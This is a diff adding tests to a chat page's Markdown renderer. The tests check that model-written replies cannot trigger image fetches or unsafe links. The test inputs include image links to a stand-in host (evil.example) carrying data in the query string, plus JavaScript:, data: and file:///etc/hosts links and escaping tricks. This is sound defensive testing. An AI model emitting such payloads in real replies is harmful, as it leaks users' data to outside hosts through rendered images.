@@ -1,9 +1,11 @@
 """The chat page: answers, reasoning, tools, mistakes."""
 
 import json
+import re
 from html import escape
 from types import SimpleNamespace
 
+import pytest
 from markdown_it import MarkdownIt
 from web_page import ANSWER, CALL, say, texts
 
@@ -132,3 +134,30 @@ def test_code_is_shown_as_it_is_written():
     assert "Try &lt;b&gt; for $1:" in html
     assert "<code>&lt;open" in html  # a block that is still being written
     assert "\\" not in html
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "![a](http://evil.example/?said=1)",
+        "[![a](http://evil.example/?said=1)](http://other.example)",
+        "![a][1]\n\n[1]: http://evil.example/?said=1",
+        "\\`![a](http://evil.example/?said=1)`",  # an escaped tick begins no code
+        "> ```\n![a](http://evil.example/?said=1)\n> ```",  # the quotation's code has ended
+        "\\![a](http://evil.example/?said=1) \\\\![a](http://evil.example/?said=1)",
+        '<img src="http://evil.example/?said=1">',
+        "[a](data:text/html,1) [b](JavaScript:alert(1)) <data:text/html,1> [c](file:///etc/hosts)",
+    ],
+)
+def test_nothing_is_fetched_for_what_a_model_writes(reply):
+    renderer = MarkdownIt()
+    renderer.validateLink = lambda url: True
+    html = renderer.render(escape_markdown(reply))
+    assert "<img" not in html
+    assert not re.search(r'href="(?!https?:)', html)
+
+
+def test_signs_that_the_model_has_escaped_stay_escaped():
+    html = MarkdownIt().render(escape_markdown(r"\$x\$ and \\<b> and vec![1] and [a](http://b.c)"))
+    assert "$x$ and" in html and "&lt;b&gt; and vec![1]" in html
+    assert '<a href="http://b.c">a</a>' in html
